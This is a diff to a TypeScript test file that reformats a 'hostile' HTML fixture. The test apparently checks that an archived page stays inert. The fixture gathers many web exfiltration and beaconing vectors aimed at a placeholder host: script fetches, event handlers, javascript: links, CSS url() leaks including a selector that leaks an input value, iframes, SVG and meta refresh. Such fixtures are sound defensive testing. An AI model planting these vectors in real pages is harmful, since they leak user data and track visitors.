@@ -36,26 +36,36 @@ function hostile(at: string): string {
   return `<!doctype html><html><head><title>Hostile</title><base href="${at}/">
 <meta http-equiv="refresh" content="0;url=${at}/refresh">
 <link rel="dns-prefetch" href="${at}"><link rel="preconnect" href="${at}"><link rel="prefetch" href="${at}/prefetch">
-<link rel="prerender" href="${at}/prerender"><link rel="modulepreload" href="${at}/module.js"><link rel="icon" href="${at}/icon">
+<link rel="prerender" href="${at}/prerender"><link rel="modulepreload" href="${at}/module.js">
+<link rel="icon" href="${at}/icon">
 <link rel="manifest" href="${at}/manifest"><link rel="stylesheet" href="${at}/sheet.css">
 <link rel="stylesheet" href="https://site.example/kept.css">
 <script>fetch('${at}/script')</script><script src="${at}/remote.js"></script>
 <script type="speculationrules">{"prefetch":[{"source":"list","urls":["${at}/spec"]}]}</script>
 <style>@import "${at}/import.css"; @import url(${at}/import2.css);
-body{background:url(${at}/body.png)} p::after{content:url("${at}/after.png")} @font-face{font-family:f;src:url(${at}/f.woff)} p{font-family:f}
-input[value^="s"]{background:u\\72l(${at}/leak?s)} i{background:image-set("${at}/set.png" 1x)} b{cursor:url(${at}/c.cur),auto}
+body{background:url(${at}/body.png)} p::after{content:url("${at}/after.png")} 
+@font-face{font-family:f;src:url(${at}/f.woff)} p{font-family:f}
+input[value^="s"]{background:u\\72l(${at}/leak?s)} i{background:image-set("${at}/set.png" 1x)} 
+b{cursor:url(${at}/c.cur),auto}
 </style></head>
 <body onload="fetch('${at}/onload')"><p>Tea did <b>not</b> lower blood pressure in the trial.</p>
-<form action="${at}/form" id="f"><input name="secret" value="secret" autofocus onfocus="fetch('${at}/focus')"><button>send</button></form>
+<form action="${at}/form" id="f"><input name="secret" value="secret" autofocus onfocus="fetch('${at}/focus')">
+<button>send</button></form>
 <a id="leave" href="${at}/link" ping="${at}/ping" target="_top">leave</a><a href="javascript:fetch('${at}/js')">js</a>
-<img src="${at}/img.png" srcset="${at}/set2.png 2x" onerror="fetch('${at}/onerror')"><picture><source srcset="${at}/picture.png"><img src="https://site.example/kept.png"></picture>
+<img src="${at}/img.png" srcset="${at}/set2.png 2x" onerror="fetch('${at}/onerror')"><picture>
+<source srcset="${at}/picture.png"><img src="https://site.example/kept.png"></picture>
 <iframe src="${at}/frame" srcdoc="<script>top.location='${at}/srcdoc'</script>"></iframe>
-<object data="${at}/object"></object><embed src="${at}/embed"><video src="${at}/video" poster="${at}/poster" autoplay></video><audio src="${at}/audio" autoplay></audio>
-<svg><script>fetch('${at}/svg')</script><image href="${at}/svgimage.png" width="9" height="9"/><use href="${at}/use.svg#a"/>
-<set attributeName="href" to="${at}/set"/><rect width="9" height="9" fill="url(${at}/fill.svg#g)" filter="url(${at}/filter.svg#g)"/><foreignObject><iframe src="${at}/foreign"></iframe></foreignObject></svg>
+<object data="${at}/object"></object><embed src="${at}/embed"><video src="${at}/video" poster="${at}/poster" autoplay>
+</video><audio src="${at}/audio" autoplay></audio>
+<svg><script>fetch('${at}/svg')</script><image href="${at}/svgimage.png" width="9" height="9"/>
+<use href="${at}/use.svg#a"/>
+<set attributeName="href" to="${at}/set"/>
+<rect width="9" height="9" fill="url(${at}/fill.svg#g)" filter="url(${at}/filter.svg#g)"/><foreignObject>
+<iframe src="${at}/foreign"></iframe></foreignObject></svg>
 <math><annotation-xml encoding="text/html"><iframe src="${at}/math"></iframe></annotation-xml></math>
 <noscript><img src="${at}/noscript.png"><meta http-equiv="refresh" content="0;url=${at}/noscript"></noscript>
-<table background="${at}/table.png"><tr><td style="background-image:url(${at}/td.png)">cell</td></tr></table></body></html>`
+<table background="${at}/table.png"><tr><td style="background-image:url(${at}/td.png)">cell</td></tr></table></body>
+</html>`
 }
 
 test('a hostile page from the archive stays inert: nothing leaves this machine, and what was kept is shown', {
